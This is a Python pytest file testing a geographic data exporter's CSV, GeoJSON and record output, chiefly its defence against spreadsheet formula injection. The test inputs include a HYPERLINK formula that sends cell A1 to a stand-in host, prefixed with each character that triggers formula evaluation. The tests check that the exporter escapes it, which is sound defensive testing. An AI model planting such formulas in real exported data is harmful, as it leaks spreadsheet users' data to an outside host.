"""Tables to take away: safe in a spreadsheet, exact in a program."""

import csv
import io
import json

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st

from geo import tables as t
from geo.show import export


def rows_of(text):
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("kind", [object, "str", "category"])
def test_no_text_runs_as_a_formula(start, kind):
    cell = f'{start}HYPERLINK("http://x.example/"&A1)'
    frame = pd.DataFrame({"name": pd.Series([cell, "도서관"], dtype=kind)})
    header, first, second = rows_of(export.to_csv(frame))
    assert (header, first, second) == (["name"], ["'" + cell.replace("\r", "\n")], ["도서관"])


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")), min_size=1, max_size=5))
def test_no_cell_begins_as_a_formula_does(texts):
    cells = [row[0] if row else "" for row in rows_of(export.to_csv(pd.DataFrame({"name": texts, "n": 1})))[1:]]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("ending", ["\n", "\r", "\r\n"])
def test_no_text_begins_a_row_of_its_own(ending):
    frame = pd.DataFrame({"name": [f"도서관{ending}=1+1"], "n": [1]})
    assert rows_of(export.to_csv(frame)) == [["name", "n"], ["도서관\n=1+1", "1"]]


def test_numbers_stay_numbers():
    frame = pd.DataFrame({"a": [-1, 2], "b": [-0.123456789, np.nan], "c": [True, False]})
    frame["d"] = pd.array([-0.5, pd.NA], dtype="Float64")
    assert export.to_csv(frame) == "a,b,c,d\n-1,-0.123457,True,-0.5\n2,,False,\n"


def test_quotes_commas_and_line_breaks_stay_in_their_cell():
    frame = pd.DataFrame({"name": ['a "b", c\nd', None]})
    assert rows_of(export.to_csv(frame))[1:] == [['a "b", c\nd'], [""]]


def test_the_table_itself_is_left_alone():
    frame = pd.DataFrame({"name": ["=1+1"]})
    export.to_csv(frame)
    assert frame["name"].tolist() == ["=1+1"]


@pytest.fixture
def places():
    frame = gpd.GeoDataFrame(
        {"name": pd.array(["=도서관", None], dtype="str"), "minutes": [2.5, np.nan], "near": [True, False]},
        geometry=shapely.points([(126.92, 37.61), (126.93, 37.62)]),
        crs=t.WGS84,
        index=[7, 3],
    )
    frame["seats"] = pd.array([20, pd.NA], dtype="Int64")
    return frame


def test_points_become_latitude_and_longitude(places):
    table = export.with_coordinates(places)
    assert list(table) == ["name", "minutes", "near", "seats", "lat", "lon"]
    assert table["lat"].tolist() == [37.61, 37.62]
    assert table["lon"].tolist() == [126.92, 126.93]
    assert not isinstance(table, gpd.GeoDataFrame)


def test_geojson_is_one_collection_with_what_it_rests_on(places):
    written = json.loads(export.to_geojson(places, {"streets_source": "model", "type": "Nonsense"}))
    assert written["type"] == "FeatureCollection"
    assert written["streets_source"] == "model"
    first, second = written["features"]
    assert first["geometry"] == {"type": "Point", "coordinates": [126.92, 37.61]}
    assert first["properties"] == {"name": "=도서관", "minutes": 2.5, "near": True, "seats": 20}
    assert second["properties"] == {"name": None, "minutes": None, "near": False, "seats": None}
    assert "도서관" in export.to_geojson(places, {})


def test_records_hold_plain_values(places):
    (first, second) = export.records(export.with_coordinates(places).drop(columns=["lat", "lon"]))
    assert first == {"name": "=도서관", "minutes": 2.5, "near": True, "seats": 20}
    assert second == {"name": None, "minutes": None, "near": False, "seats": None}
    assert {type(value) for value in first.values()} == {str, float, bool, int}
    assert json.loads(json.dumps([first, second])) == [first, second]


def test_no_rows_are_a_header_and_an_empty_list(places):
    nothing = places.iloc[:0]
    assert export.to_csv(export.with_coordinates(nothing)) == "name,minutes,near,seats,lat,lon\n"
    assert export.records(export.with_coordinates(nothing)) == []
    assert json.loads(export.to_geojson(nothing, {}))["features"] == []
